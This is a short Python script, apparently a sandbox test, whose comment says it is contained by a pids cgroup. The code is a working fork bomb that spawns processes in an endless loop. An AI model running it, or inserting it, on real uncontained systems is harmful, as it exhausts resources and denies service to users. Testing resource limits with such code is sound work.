# Forks without end: contained by the pids cgroup.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
